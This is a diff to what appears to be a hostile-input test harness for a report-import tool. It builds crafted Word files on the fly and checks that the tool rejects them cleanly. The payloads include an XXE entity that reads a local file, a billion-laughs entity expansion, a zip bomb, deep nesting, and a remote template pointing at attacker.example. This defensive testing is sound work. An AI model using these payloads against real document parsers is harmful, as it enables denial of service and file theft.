@@ -13,6 +13,9 @@ Categories (``CATEGORIES``, in the order run):
 - workbooks: crafted .xlsx made on the fly, none stored in the repository (a zip bomb, XXE and
   billion-laughs sheets, a million-row sheet, 3,000 members, a truncated and a non-zip file) given
   to ``import-xlsx`` and ``verify``;
+- word: crafted .docx made on the fly (a zip bomb, a 100,000-row table, XXE and billion-laughs
+  document.xml, a remote template, nesting 50,000 deep, 6,000 members, truncated, an old .doc,
+  random bytes) given to ``import-report``;
 - drafts: truncated, byte-flipped and SQL-crafted drafts given to open / show / check / history /
   set / export (``tests/hostile_inputs.py``, shared with the test suite);
 - filesystem: planted lock links, FIFOs, devices, over-long names and ``file:`` names;
@@ -302,6 +305,175 @@ def workbooks(run: Run) -> Outcome:
                 found.append(f"{what}: 外部实体被读入")
         if draft.exists():
             found.append(f"工作簿 {name}: 拒绝导入却留下了草稿 {draft.name}")
+        outcome.add(found)
+    return outcome
+
+
+# -- Word reports --------------------------------------------------------------------------------
+
+DOCUMENT = "word/document.xml"
+_DOC_HEAD = (
+    b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
+    b'<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body>'
+)
+_DOC_TAIL = b"</w:body></w:document>"
+
+
+def _report_docx(folder: Path) -> Path:
+    import docx
+
+    document = docx.Document()
+    document.add_paragraph("某某局2023年政府信息公开工作年度报告")
+    document.add_paragraph("一、总体情况")
+    document.add_paragraph("全年主动公开政府信息100条。")
+    out = folder / "正常.docx"
+    document.save(str(out))
+    return out
+
+
+def _with_part(base: Path, dest: Path, name: str, write: Callable[[zipfile.ZipFile], None]) -> Path:
+    """A copy of ``base`` whose part ``name`` is written by ``write`` (streamed, never held)."""
+    with zipfile.ZipFile(base) as source, zipfile.ZipFile(dest, "w", zipfile.ZIP_DEFLATED) as out:
+        for info in source.infolist():
+            if info.filename != name:
+                out.writestr(info, source.read(info))
+        write(out)
+    return dest
+
+
+def _document_stream(chunks: Iterator[bytes]) -> Callable[[zipfile.ZipFile], None]:
+    def write(out: zipfile.ZipFile) -> None:
+        with out.open(DOCUMENT, "w", force_zip64=True) as member:
+            for chunk in chunks:
+                member.write(chunk)
+
+    return write
+
+
+def _blank_megabytes(count: int) -> Iterator[bytes]:
+    yield _DOC_HEAD
+    block = b" " * (1 << 20)
+    for _ in range(count):
+        yield block
+    yield _DOC_TAIL
+
+
+def _table_rows(rows: int, rng: random.Random) -> Iterator[bytes]:
+    """Random figures, so that the part is not refused for its compression but for its rows."""
+    yield _DOC_HEAD + b"<w:tbl>"
+    row = b"<w:tr><w:tc><w:p><w:r><w:t>%d</w:t></w:r></w:p></w:tc></w:tr>"
+    for _ in range(rows // 10_000):
+        yield b"".join(row % rng.randrange(10**9) for _ in range(10_000))
+    yield b"</w:tbl>" + _DOC_TAIL
+
+
+def crafted_documents(run: Run, base: Path) -> Iterator[tuple[str, Path]]:
+    folder = run.folder
+    megabytes = run.size(120, 400)
+    yield (
+        "zip 炸弹",
+        _with_part(
+            base, folder / "bomb.docx", DOCUMENT, _document_stream(_blank_megabytes(megabytes))
+        ),
+    )
+    rows = run.size(100_000, 600_000)
+    yield (
+        f"{rows} 行的表",
+        _with_part(
+            base, folder / "rows.docx", DOCUMENT, _document_stream(_table_rows(rows, run.rng))
+        ),
+    )
+    secret = folder / "secret.txt"
+    secret.write_text("机密", encoding="utf-8")
+    xxe = b'<!DOCTYPE w:document [<!ENTITY e SYSTEM "file://%s">]>' % str(secret).encode()
+    laughs = (
+        b'<!DOCTYPE w:document [<!ENTITY a "hahahahahahahahahaha">'
+        + b"".join(
+            b'<!ENTITY %s "%s">' % (bytes([98 + i]), (b"&%s;" % bytes([97 + i])) * 10)
+            for i in range(9)
+        )
+        + b"]>"
+    )
+    for name, doctype, entity in (("XXE 外部实体", xxe, b"&e;"), ("十亿笑", laughs, b"&j;")):
+        body = (
+            b'<?xml version="1.0" encoding="UTF-8"?>\n'
+            + doctype
+            + _DOC_HEAD.split(b"\n", 1)[1]
+            + b"<w:p><w:r><w:t>"
+            + entity
+            + b"</w:t></w:r></w:p>"
+            + _DOC_TAIL
+        )
+        yield (
+            name,
+            _with_part(
+                base,
+                folder / f"{name}.docx",
+                DOCUMENT,
+                lambda out, b=body: out.writestr(DOCUMENT, b),
+            ),
+        )
+    rels = "word/_rels/document.xml.rels"
+    with zipfile.ZipFile(base) as source:
+        text = source.read(rels)
+    remote = text.replace(
+        b"</Relationships>",
+        b'<Relationship Id="rId99" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
+        b'relationships/attachedTemplate" Target="http://attacker.example/t.dotm" '
+        b'TargetMode="External"/></Relationships>',
+    )
+    yield (
+        "远程模板",
+        _with_part(base, folder / "remote.docx", rels, lambda out: out.writestr(rels, remote)),
+    )
+    # 50,000 deep: under the size a compression ratio is judged at, so the parser meets it
+    deep = _DOC_HEAD + b"<w:p>" + b"<w:r>" * 50_000 + b"</w:r>" * 50_000 + b"</w:p>" + _DOC_TAIL
+    yield (
+        "嵌套 5 万层",
+        _with_part(base, folder / "deep.docx", DOCUMENT, lambda out: out.writestr(DOCUMENT, deep)),
+    )
+    many = folder / "members.docx"
+    shutil.copyfile(base, many)
+    with zipfile.ZipFile(many, "a") as out:
+        for index in range(6000):
+            out.writestr(f"word/media/x{index}.bin", b"")
+    yield "6000 个成员", many
+    data = base.read_bytes()
+    for offset in (0, 30, len(data) // 3, len(data) - 22):
+        cut = folder / f"cut-{offset}.docx"
+        cut.write_bytes(data[:offset])
+        yield f"截断于 {offset} 字节", cut
+    old = folder / "old.doc"
+    old.write_bytes(
+        b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(run.rng.randrange(256) for _ in range(5000))
+    )
+    yield "旧版 .doc", old
+    junk = folder / "junk.docx"
+    junk.write_bytes(bytes(run.rng.randrange(256) for _ in range(5000)))
+    yield "随机字节", junk
+
+
+@category("word", "Word 年度报告（现场生成，import-report）")
+def word_reports(run: Run) -> Outcome:
+    outcome = Outcome()
+    base = _report_docx(run.folder)
+    for name, path in crafted_documents(run, base):
+        draft = run.folder / f"{path.stem}.nianbao"
+        what = f"Word 文档 {name} / import-report"
+        code, text = _cli(what, ["import-report", str(path), str(draft)])
+        found: list[str] = []
+        if code is None:
+            found.append(f"{what}: {hi.HANG_SECONDS:.0f} 秒内没有结束（挂起）")
+        elif "Traceback" in text or "内部错误" in text or "异常逃出" in text:
+            found.append(f"{what}: {text.strip()[-300:]}")
+        elif code == 0:
+            found.append(f"{what}: 被接受（应拒绝）")
+        elif "机密" in text or "hahahaha" in text:
+            found.append(f"{what}: 实体被展开或读入")
+        elif not hi.is_chinese(text):
+            found.append(f"{what}: 拒绝但没有中文说明：{text.strip()[-200:]!r}")
+        if draft.exists():
+            found.append(f"Word 文档 {name}: 拒绝导入却留下了草稿 {draft.name}")
         outcome.add(found)
     return outcome
 
